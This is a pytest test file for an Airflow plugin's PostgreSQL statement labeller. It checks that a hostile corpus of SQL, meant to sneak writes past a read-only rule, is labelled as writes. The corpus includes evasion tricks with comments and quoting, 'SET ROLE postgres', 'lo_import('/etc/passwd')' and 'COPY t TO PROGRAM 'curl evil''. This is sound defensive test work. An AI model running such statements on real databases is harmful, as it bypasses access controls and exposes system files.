"""The SQL label from PostgreSQL's own parser (``ledger/sql_label.py``), on a hostile corpus.

Each case is a statement a DAG author could send to slip a write past a ``required_for: writes``
rule, or a plain read that must stay exempt. The integration test
``tests/integration/test_sql_label_database.py`` checks the same kind of corpus against what
PostgreSQL itself refuses in a read-only transaction.
"""

from __future__ import annotations

import pytest

from airflow_hoop.ledger.sql_label import QUOTE_CHARS, label_sql

READ = "read"
WRITE = "write"
TX = "transaction_control"

CORPUS: list[tuple[str, str]] = [
    # plain reads
    ("SELECT 1", READ),
    ("select count(*) from orders where id in (select id from x)", READ),
    ("SELECT * FROM (SELECT 1) s JOIN y ON (a = b)", READ),
    ("TABLE t", READ),
    ("VALUES (1), (2)", READ),
    ("SHOW search_path", READ),
    ("EXPLAIN SELECT * FROM t", READ),
    ("SELECT 'DELETE FROM t'", READ),  # a keyword inside a string literal
    ('SELECT "insert(" FROM t', READ),  # ... a quoted identifier
    ("SELECT $$; DELETE FROM t$$", READ),  # ... a dollar-quoted body
    ("SELECT $body$ '; DELETE FROM t; -- $body$", READ),
    ("SELECT 1 /* ; DELETE FROM t */", READ),  # ... a comment
    ("SELECT 1 /* outer /* nested; DELETE FROM t */ still a comment */", READ),
    ("-- DELETE FROM t\nSELECT 1", READ),
    ("SELECT E'\\''", READ),  # an escaped quote: the statement ends where PostgreSQL says
    ('SELECT a$b, "x$y" FROM t$1', READ),  # dollar signs inside identifiers
    ("SELECT ordered_on, sum(amount) FROM orders GROUP BY 1 ORDER BY 1", READ),
    ('SELECT pg_catalog.lower(name), lower(name), "lower"(name) FROM t', READ),
    ("SELECT extract(year FROM now()), trim(' x '), position('a' in 'b')", READ),
    ("SELECT x::integer, y::double precision, z::varchar(3), CAST(w AS text) FROM t", READ),
    ("SELECT 42, count(*) FROM generate_series(1, 2000) AS g WHERE g % 3 = 0", READ),
    ("SELECT coalesce(a, b), greatest(1, 2), nullif(a, b), current_user FROM t", READ),
    ("WITH x AS (SELECT 1 AS a) SELECT a FROM x", READ),
    ("BEGIN; SELECT 1; COMMIT", READ),  # the worst statement's label
    # writes hidden in syntax the old regexes misread
    ("SELECT e'\\''; DELETE FROM t", WRITE),  # E'' escape, then a real DELETE
    ("SELECT 1 /* /* */ */; DELETE FROM t", WRITE),  # nested comment, then a real DELETE
    ("SELECT $a$ $$ $a$; DELETE FROM t", WRITE),
    ('SELECT "lower"(x, 1) FROM t', WRITE),  # a user lower(text, int): another signature
    ("SELECT lower(x, 1) FROM t", WRITE),
    ("SELECT public.lower(x) FROM t", WRITE),  # schema-qualified: not the built-in
    ('SELECT "public"."lower"(x) FROM t', WRITE),
    ("SELECT pg_catalog.nextval('s')", WRITE),  # qualified, but a writing built-in
    ("SELECT lower(VARIADIC ARRAY['a'])", WRITE),
    ("SELECT lower(x => 'a')", WRITE),  # named arguments: a user function's parameters
    ("SELECT a$b(1) FROM t", WRITE),  # a function whose name holds a dollar sign
    ("SELECT f$()", WRITE),
    ("SELECT * FROM f()", WRITE),
    ("SELECT my_function(1)", WRITE),
    ("SELECT nextval('s')", WRITE),
    ("SELECT setval('s', 42)", WRITE),
    ("SELECT pg_terminate_backend(42)", WRITE),
    ("SELECT lo_import('/etc/passwd')", WRITE),
    ("SELECT dblink_exec('dbname=x', 'DELETE FROM t')", WRITE),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", WRITE),
    ("SELECT 1 OPERATOR(public.+) 2", WRITE),
    ("SELECT 1 === 2", WRITE),  # a user operator
    ("SELECT 'x'::my_domain", WRITE),  # a domain's CHECK may call a function
    ("SELECT 'x'::public.text", WRITE),
    ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", WRITE),
    ("SELECT * FROM (SELECT 1) s WHERE EXISTS (SELECT f())", WRITE),
    ("SELECT * INTO new_t FROM t", WRITE),
    ("SELECT * FROM t FOR UPDATE", WRITE),
    ("SELECT * FROM (SELECT * FROM t FOR SHARE) s", WRITE),
    ("EXPLAIN ANALYZE DELETE FROM t", WRITE),
    ("EXPLAIN (ANALYZE) SELECT f()", WRITE),
    ("EXPLAIN (ANALYZE false) SELECT 1", WRITE),  # conservative: any ANALYZE option
    ("EXPLAIN DELETE FROM t", WRITE),
    ("COPY t TO PROGRAM 'curl evil'", WRITE),
    ("COPY (SELECT 1) TO STDOUT", WRITE),
    ("DO $$BEGIN DELETE FROM t; END$$", WRITE),
    ("CALL p()", WRITE),
    ("SET ROLE postgres", WRITE),
    ("SET SESSION AUTHORIZATION postgres", WRITE),
    ("SET TRANSACTION READ WRITE", WRITE),
    ("SET search_path TO evil, pg_catalog", WRITE),
    ("RESET ALL", WRITE),
    ("LISTEN c", WRITE),
    ("NOTIFY c, 'x'", WRITE),
    ("LOCK TABLE t", WRITE),
    ("PREPARE p AS DELETE FROM t", WRITE),
    ("EXECUTE p", WRITE),  # a prepared statement: the parser cannot see what it runs
    ("DECLARE c CURSOR FOR SELECT 1", WRITE),
    ("INSERT INTO t VALUES (1)", WRITE),
    ("UPDATE t SET a = 1", WRITE),
    ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", WRITE),
    ("CREATE TABLE x (a int)", WRITE),
    ("COMMIT; DELETE FROM t", WRITE),
    ("SELECT 1; DROP TABLE t", WRITE),
    ("BEGIN READ WRITE", WRITE),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", WRITE),
    ("PREPARE TRANSACTION 'x'", WRITE),
    ("COMMIT PREPARED 'x'", WRITE),
    ("SELECT 'unterminated", WRITE),  # unparsable
    ("SELECT 1 /* unterminated", WRITE),
    ("", WRITE),  # no statement
    ("-- only a comment", WRITE),
    # transaction control: runs nothing new
    ("BEGIN", TX),
    ("BEGIN READ ONLY", TX),
    ("START TRANSACTION", TX),
    ("COMMIT", TX),
    ("rollback;", TX),
    ("END", TX),
    ("SAVEPOINT a; RELEASE a", TX),
    ("ROLLBACK TO SAVEPOINT a", TX),
    ("COMMIT AND CHAIN", TX),
]


@pytest.mark.parametrize(("sql", "expected"), CORPUS)
def test_label(sql: str, expected: str) -> None:
    assert label_sql(sql).label == expected


def test_the_corpus_is_large_and_mostly_hostile() -> None:
    assert len(CORPUS) >= 40
    assert sum(1 for _, label in CORPUS if label == WRITE) >= 40


def test_a_write_names_its_statement_and_why() -> None:
    label = label_sql("SELECT 1; SELECT public.f(2); SELECT 3")
    assert label.label == WRITE
    assert label.statement == "SELECT public.f(2)"
    assert label.why == "calls function public.f(), which may write"
    assert "'SELECT public.f(2)' was labelled a write" in label.explain()


def test_an_unparsable_script_gives_postgresqls_error_and_position() -> None:
    label = label_sql("SELECT * FROM WHERE x")
    assert label.label == WRITE and label.statement is None
    assert label.why == (
        'the statement could not be parsed: syntax error at or near "WHERE" at position 15; '
        "it counts as a write"
    )


def test_statements_are_cut_where_postgresql_cuts_them_even_after_multibyte_text() -> None:
    label = label_sql("SELECT 'ééé'; SELECT f()")
    assert label.statement == "SELECT f()"


def test_a_long_statement_is_quoted_short() -> None:
    sql = "SELECT f(" + ", ".join(["1"] * 500) + ")"
    label = label_sql(sql)
    assert label.label == WRITE and label.statement is not None
    assert len(label.statement) == QUOTE_CHARS and label.statement.endswith("…")


def test_deep_nesting_is_a_write_not_a_crash() -> None:
    assert label_sql("SELECT " + "(" * 5000 + "1" + ")" * 5000).label in (READ, WRITE)
    assert label_sql("SELECT " + "f(" * 3000 + "1" + ")" * 3000).label == WRITE


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT mode() WITHIN GROUP (ORDER BY a) FROM t",
        "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a) FROM t",
    ],
)
def test_ordered_set_aggregates_count_their_sort_columns(sql: str) -> None:
    assert label_sql(sql).label == READ


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT %(amount)s::numeric AS refund, %(reason)s AS reason", READ),
        ("SELECT * FROM t WHERE a = %s AND b LIKE 'x%%'", READ),
        ("SELECT * FROM t WHERE a = %s; DELETE FROM t WHERE b = %s", WRITE),
        ("INSERT INTO t VALUES (%(id)s)", WRITE),
        ("SELECT f(%s)", WRITE),
        ("SELECT %d", WRITE),  # psycopg refuses it: not guessed
    ],
)
def test_parameterized_scripts_are_parsed_as_the_server_receives_them(
    sql: str, expected: str
) -> None:
    """With parameters, psycopg turns %s / %(name)s into $n and %% into % before sending."""
    assert label_sql(sql, parameterized=True).label == expected


def test_without_parameters_a_percent_sign_is_literal() -> None:
    assert label_sql("SELECT 5 % 3").label == READ
    assert label_sql("SELECT %(x)s").label == WRITE  # not SQL without psycopg's substitution
